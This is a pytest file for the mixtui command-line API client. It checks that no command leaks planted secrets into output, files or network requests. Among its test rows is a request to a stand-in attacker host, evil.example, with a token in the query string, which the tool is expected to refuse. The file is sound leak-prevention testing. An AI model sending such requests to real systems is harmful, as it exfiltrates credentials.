"""No command writes or sends a secret where it does not belong."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest
from msgspec import Struct

from mixtui.cli.commands.names import COMMANDS
from mixtui.storage.paths import state_dir
from tests.secrets.searcher import find, secret
from tests.secrets.world import ACCOUNTS, ENVIRONMENTS, World

PIN = ("--var", f"pin={secret('var')}")
TYPED = (
    *("-H", f"X-Api-Key: {secret('typed-header')}"),
    *("-H", f"Cookie: sid={secret('typed-cookie')}"),
    *("-q", f"api_secret={secret('typed-query')}"),
    *("-q", f"callback=https://u:{secret('typed-user')}@h.example/"),
    *(
        "-d",
        json.dumps([{"event": "e", "properties": {"password": secret("typed-body")}}]),
    ),
)


class Row(Struct, frozen=True):
    """One command line to run in the planted world."""

    words: tuple[str, ...]
    """After the name of the command; {vault} is a folder of files with secrets."""
    status: int = 0
    stdin: str = ""
    terminal: bool = False
    prints: str = ""
    """Why its standard output may hold a secret; empty = it may not."""


def row(
    *words: str,
    status: int = 0,
    stdin: str = "",
    terminal: bool = False,
    prints: str = "",
) -> Row:
    return Row(words, status, stdin, terminal, prints)


MIGRATION = (
    *("--from", ACCOUNTS[0], "--to", ACCOUNTS[1], "--dates", "2026-01-01..2026-01-02"),
)
UNCHANGED = "a response is printed as it came"
ASKED = "asked for by name"
DATES = ("--from", "2025-06-15", "--to", "2025-06-15")
ROWS: dict[str, tuple[Row, ...]] = {
    "init": (row("new"), row("--list", "--json")),
    "send": (
        *(row("Echo", "--env", name, *PIN, "--json", "--yes") for name in ACCOUNTS),
        row("Echo", *PIN, "--yes", prints=UNCHANGED),
        row(
            "Echo", *PIN, "--yes", "--include", "--filter", ".results", prints=UNCHANGED
        ),
        row("Echo", *PIN, "--yes", "-o", "../out/body"),
        row("Echo", *PIN, "--dry-run"),
        row("Echo", *PIN, "--dry-run", "--json"),
        row("Echo", "--yes", "--json", stdin=f"{secret('prompt')}\n", terminal=True),
        row("Echo", "--yes", *PIN, *TYPED, "--json"),
        row("POST", "/import/echo", "--api", "ingestion", *TYPED, "--json", "--yes"),
        row(
            "POST",
            "/import/refuse",
            "--api",
            "ingestion",
            *TYPED,
            "--json",
            "--yes",
            status=1,
        ),
        row("Read refuse", "--json", status=1),
        row("Read redirect", "--json", status=1),
        row("Read moved", "--json"),
        row("Read gone", "--json", status=5),
        row("Read garbage", "--json", status=5),
        row(
            "Read echo", "--json", "--env", "project-secret", "--auth", "project_secret"
        ),
        row("Read echo", "--json", "--env", "oauth-token", "--auth", "oauth"),
        row("Read echo", "--no-history", "--json"),
        row("--file", "read-echo.toml", "--json"),
        row("nothing", "--var", f"pin={secret('var')}", status=2),
        row("Echo", "--vra", secret("var"), status=2),
        row("Echo", "--var", secret("var"), status=2),
        row(
            "GET",
            f"//evil.example/?token={secret('typed-query')}",
            "--api",
            "query",
            status=2,
        ),
    ),
    "list": (row(), row("--json")),
    "show": (row("Echo"), row("Echo", "--json"), row("read-echo")),
    "operations": (row("events"), row("--json")),
    "new": (
        row("query.list-recent-events"),
        row("query.list-recent-events", "--save", "New"),
    ),
    "import curl": (
        row("{vault}/command.sh"),
        row("{vault}/command.sh", "--save", "Curl"),
        row("{vault}/command.sh", "--save", "Kept", "--credentials-to", "fresh"),
    ),
    "import openapi": (
        row("{vault}/openapi.json"),
        row("{vault}/openapi.json", "--dry-run", "--json"),
    ),
    "import postman": (
        row("{vault}/postman.json"),
        row("{vault}/postman.json", "--dry-run", "--json"),
    ),
    "export": (
        *(row(program, "Echo", *PIN) for program in ("curl", "httpie", "python")),
        row("python", "Echo", *PIN, "-o", "exported.py"),
        row("curl", "Echo", *PIN, "--with-secrets", prints=ASKED),
    ),
    "env list": (row(), row("--json")),
    "env show": tuple(row(name) for name in ENVIRONMENTS),
    "env add": (
        row(
            "added",
            "--service-account",
            "ci",
            "--secret",
            "-",
            stdin=f"{secret('added')}\n",
        ),
        row(
            "told", "--service-account", "ci", "--secret", secret("argument"), status=2
        ),
        row(
            "--no-check",
            stdin=f"ci\n{secret('asked')}\nus\n7\nasked\nconfirm\n",
            terminal=True,
        ),
    ),
    "env check": (row(status=0), row("--online"), row("--json")),
    "events import": (
        row("{vault}/events.ndjson", "--dry-run"),
        row("{vault}/events.ndjson", "--check"),
        # The server confirms nothing.
        row("{vault}/events.ndjson", "-y", "--json", status=1),
        row("{vault}/events.ndjson", "-y", "--restart", "--env", "command", status=1),
    ),
    "events export": (
        row(*DATES, "-o", "export.ndjson", "--dry-run"),
        row(*DATES, "-o", "export.ndjson", "--json", status=1),
        row(*DATES, "-o", "export.csv", "--restart", "--env", "command", status=1),
    ),
    "events query": (row("{vault}/events.ndjson", "FROM events", "--json"),),
    **{
        f"{kind} import": (
            row(f"{{vault}}/{kind}.ndjson", "--dry-run"),
            row(f"{{vault}}/{kind}.ndjson", "--check"),
            row(f"{{vault}}/{kind}.ndjson", "-y", "--json"),
        )
        for kind in ("profiles", "groups")
    },
    "profiles export": (
        row("-o", "profiles.ndjson", "--dry-run"),
        row("-o", "../out/profiles.ndjson", "--json"),
    ),
    "groups export": (
        row("--data-group-id", "1", "-o", "../out/groups.ndjson", "--json"),
    ),
    **{
        f"{what} {how}": (row(path, "--dry-run", status=1), row(path, status=1))
        for what, name in (("schemas", "schemas"), ("annotations", "notes.json"))
        for how, path in (("pull", name), ("push", f"{{vault}}/{name}"))
    },
    "lookup list": (row(status=1), row("--json", status=1)),
    "lookup push": (
        row("{vault}/table.csv", "--table", "t", "--check"),
        row("{vault}/table.csv", "--table", "t", "-y", status=1),
    ),
    # All environments are of one project; what it runs are the commands above.
    "migrate": (row(*MIGRATION, "--dry-run", status=2), row(*MIGRATION, status=2)),
    "jobs list": (row(), row("--json")),
    "jobs show": (row("watched"), row("watched", "--json")),
    "jobs stop": (row("watched", status=2),),
    "jobs resume": (row("watched", status=1),),
    "jobs remove": (row("watched"), row("--finished")),
    "history list": (row(), row("--json")),
    "history show": (
        row("1"),
        row("1", "--json"),
        row("1", "--body"),
        row("2"),
        row("2", "--body"),
    ),
    "history purge": (row("--all", "--yes"),),
    "quota": (row(), row("--json")),
    "trust": (row("."), row(".", "--list"), row()),
    "doctor": (
        row("--read-secrets", "--reach"),
        row("--read-secrets", "--json"),
    ),
    "keys": (row(), row("--json")),
    "completions": (
        row("bash"),
        row("fish", "--complete", stdin="mixtui\0send\0--var\0"),
        row(
            "zsh",
            "--complete",
            stdin=f"mixtui\0send\0Echo\0--var\0pin={secret('var')}\0-H\0",
        ),
    ),
    "schema": (row("request"), row("-o", "schemas")),
    "help": (row("credentials"), row("history", "list")),
}
NOT_RUN = {
    "sandbox": "it serves until it is interrupted, and reads nothing of a person"
}


def test_every_command_is_run() -> None:
    assert {*ROWS, *NOT_RUN} == {*COMMANDS}


@pytest.fixture(scope="module")
def history(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """What the state folder holds after two requests; empty until they were sent."""
    return tmp_path_factory.mktemp("history")


def seed(world: World, history: Path) -> None:
    """Have a history, and files to import; the requests of the history are sent once."""
    if not any(history.iterdir()):
        for words in (("Echo", *PIN, "--yes"), ("Read refuse",)):
            assert world.mixtui("send", *words).status in (0, 1)
        shutil.copytree(
            state_dir(),
            history,
            ignore=shutil.ignore_patterns("trust*"),
            dirs_exist_ok=True,
        )
    shutil.copytree(history, state_dir(), dirs_exist_ok=True)
    (world.vault / "command.sh").write_text(
        f"curl -u 'ci:{secret('curl-user')}' -b 'sid={secret('curl-cookie')}' "
        f"-H 'X-Api-Key: {secret('curl-header')}' -H 'Authorization: Bearer {secret('curl-bearer')}' "
        f"'https://mixpanel.com/api/query/events?api_secret={secret('curl-query')}'"
    )
    (world.vault / "events.ndjson").write_text(
        '{"event": "e", "properties": {"time": 1700000000, "distinct_id": "d"}}\n'
    )
    (world.vault / "profiles.ndjson").write_text(
        '{"$distinct_id": "d", "$set": {"a": 1}}\n'
    )
    (world.vault / "groups.ndjson").write_text(
        '{"$group_key": "k", "$group_id": "g", "$set": {"a": 1}}\n'
    )
    (world.vault / "schemas").mkdir(exist_ok=True)
    (world.vault / "notes.json").write_text("[]")
    (world.vault / "table.csv").write_text("id,name\n1,a\n")
    (world.vault / "openapi.json").write_text(json.dumps(OPENAPI))
    (world.vault / "postman.json").write_text(json.dumps(POSTMAN))


OPENAPI = {
    "openapi": "3.1.0",
    "info": {"title": "Things", "version": "1"},
    "servers": [{"url": "https://mixpanel.com/api/query"}],
    "paths": {
        "/things": {
            "post": {
                "parameters": [
                    {
                        "name": "api_secret",
                        "in": "query",
                        "required": True,
                        "example": secret("spec-query"),
                    },
                    {
                        "name": "X-Api-Key",
                        "in": "header",
                        "required": True,
                        "example": secret("spec-header"),
                    },
                    {
                        "name": "sid",
                        "in": "cookie",
                        "required": True,
                        "example": secret("spec-cookie"),
                    },
                ],
                "requestBody": {
                    "content": {
                        "application/json": {
                            "example": {"password": secret("spec-body")}
                        }
                    }
                },
            }
        }
    },
}
POSTMAN = {
    "info": {
        "name": "Team",
        "schema": "https://schema.getpostman.com/json/collection/v2.1.0/collection.json",
    },
    "auth": {
        "type": "basic",
        "basic": [
            {"key": "username", "value": "ci"},
            {"key": "password", "value": secret("postman-basic")},
        ],
    },
    "variable": [{"key": "api_key", "value": secret("postman-variable")}],
    "item": [
        {
            "name": "One",
            "request": {
                "method": "POST",
                "auth": {
                    "type": "bearer",
                    "bearer": [{"key": "token", "value": secret("postman-bearer")}],
                },
                "header": [{"key": "X-Api-Key", "value": secret("postman-header")}],
                "url": f"https://u:{secret('postman-user')}@mixpanel.com/api/query/events?api_secret={secret('postman-query')}",
                "body": {
                    "mode": "raw",
                    "raw": json.dumps({"password": secret("postman-body")}),
                },
            },
        }
    ],
}


@pytest.mark.parametrize("command", ROWS)
def test_a_command_writes_and_sends_no_secret_where_it_does_not_belong(
    command: str, world: World, history: Path
) -> None:
    seed(world, history)
    if command.startswith("jobs "):
        events = str(world.vault / "events.ndjson")
        started = world.mixtui("events", "import", events, "-y", "--name", "watched")
        assert started.status == 1, started.output
    for each in ROWS[command]:
        words = [word.replace("{vault}", str(world.vault)) for word in each.words]
        done = world.mixtui(
            *command.split(),
            *words,
            stdin=each.stdin.encode(),
            terminal=each.terminal,
        )
        assert done.status == each.status, (words, done.output)
        assert not find(b"" if each.prints else done.stdout), words
        assert not find(done.stderr), words
    world.assert_clean()
